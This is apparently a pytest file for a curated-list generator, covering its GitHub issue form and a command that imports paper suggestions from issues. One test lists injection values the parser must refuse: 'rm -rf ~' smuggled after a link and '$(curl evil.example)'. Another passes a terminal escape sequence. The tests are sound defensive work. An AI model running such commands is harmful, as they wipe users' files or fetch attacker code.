"""The generated suggest-a-paper issue form, and `new --from-issue` reading a submitted one.

The submitted body below is GitHub's rendering of an issue form (one `### Label` heading per
field, `_No response_` for an empty one), as the issue-forms documentation shows it.
"""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from test_fields import ATTENTION

from generator.cli import main
from generator.render.issue_form import FORM_FILE, read_suggestion

PAPERS = """\
sections:
  - id: models
    title: 'Models & "Methods"'
  - id: data
    title: Data
papers:
""" + ATTENTION.replace("section: entries", "section: models")
BODY = """\
### Link to the paper

{link}

### Section

{section}

### Why it belongs in the list

_No response_

### Before submitting

- [X] I searched the list and the open issues, and this paper is not there yet.
"""


def _list(tmp_path: Path) -> Path:
    root = tmp_path / "things"
    (root / ".github").mkdir(parents=True)
    (root / "list.yaml").write_text("title: Awesome Things\ndescription: Things.\n")
    (root / "papers.yaml").write_text(PAPERS)
    (root / "datasets.yaml").write_text("datasets: []\n")
    return root


def test_the_issue_form_offers_the_sections_of_papers_yaml(tmp_path: Path) -> None:
    root = _list(tmp_path)
    assert main(["--root", str(root), "build", "--no-site"]) == 0
    form = yaml.safe_load((root / FORM_FILE).read_text(encoding="utf-8"))
    (dropdown,) = [field for field in form["body"] if field["type"] == "dropdown"]
    assert dropdown["attributes"]["options"] == ['Models & "Methods"', "Data", "Not sure"]
    assert form["description"] == "Suggest a paper for Awesome Things."
    assert main(["--root", str(root), "build", "--check", "--no-site"]) == 0
    papers = (root / "papers.yaml").read_text().replace("title: Data", "title: Datasets")
    (root / "papers.yaml").write_text(papers)
    assert main(["--root", str(root), "build", "--check", "--no-site"]) == 1  # stale form


def test_a_list_of_tools_asks_for_a_tool_s_repository_and_reads_the_answer(
    tmp_path: Path,
) -> None:
    root = _list(tmp_path)
    tools = PAPERS.split("papers:")[0] + (
        "papers:\n  - id: click\n    title: click\n    kind: tool\n"
        "    url: https://github.com/pallets/click\n    section: models\n"
    )
    (root / "papers.yaml").write_text(tools)
    assert main(["--root", str(root), "build", "--no-site"]) == 0
    form = yaml.safe_load((root / FORM_FILE).read_text(encoding="utf-8"))
    assert (form["name"], form["labels"]) == ("Suggest a tool", ["tool suggestion"])
    (link,) = [field for field in form["body"] if field.get("id") == "link"]
    assert link["attributes"]["label"] == "Link to the tool"
    body = BODY.replace("Link to the paper", "Link to the tool")
    found = read_suggestion(body.format(link="https://github.com/fastapi/typer", section="Data"))
    assert found.link == "https://github.com/fastapi/typer"


def test_a_list_without_a_github_folder_gets_no_issue_form(tmp_path: Path) -> None:
    root = _list(tmp_path)
    (root / ".github").rmdir()
    assert main(["--root", str(root), "build", "--no-site"]) == 0
    assert not (root / ".github").exists()


def test_a_submitted_form_gives_its_link_and_section() -> None:
    found = read_suggestion(BODY.format(link="https://arxiv.org/abs/1706.03762", section="Data"))
    assert (found.link, found.section_title) == ("https://arxiv.org/abs/1706.03762", "Data")
    unsure = read_suggestion(BODY.format(link="1706.03762", section="Not sure"))
    assert unsure.section_title is None


@pytest.mark.parametrize(
    "link", ["_No response_", "https://a.example/x; rm -rf ~", "$(curl evil.example)\n\nmore"]
)
def test_a_form_without_one_plain_link_is_refused(link: str) -> None:
    with pytest.raises(ValueError, match="no single link"):
        read_suggestion(BODY.format(link=link, section="Data"))


def test_new_from_issue_maps_the_section_title_and_finds_a_listed_paper(
    tmp_path: Path, capsys
) -> None:
    root = _list(tmp_path)
    body = tmp_path / "issue.md"
    body.write_text(BODY.format(link="https://arxiv.org/abs/1706.03762", section="Data"))
    before = (root / "papers.yaml").read_bytes()
    # Already listed: answered before any request, so no network is needed.
    assert main(["--root", str(root), "new", "--from-issue", str(body)]) == 1
    assert "already listed as 'attention'" in capsys.readouterr().err
    assert (root / "papers.yaml").read_bytes() == before


def test_new_from_issue_refuses_a_section_the_list_does_not_have(tmp_path: Path, capsys) -> None:
    root = _list(tmp_path)
    body = tmp_path / "issue.md"
    body.write_text(BODY.format(link="2202.05262", section="Data\x1b[2J"))
    assert main(["--root", str(root), "new", "--from-issue", str(body)]) == 1
    err = capsys.readouterr().err
    assert "the issue names no section of papers.yaml: 'Data\\x1b[2J'" in err
    assert "\x1b" not in err  # the terminal sees the escape written out, not obeyed
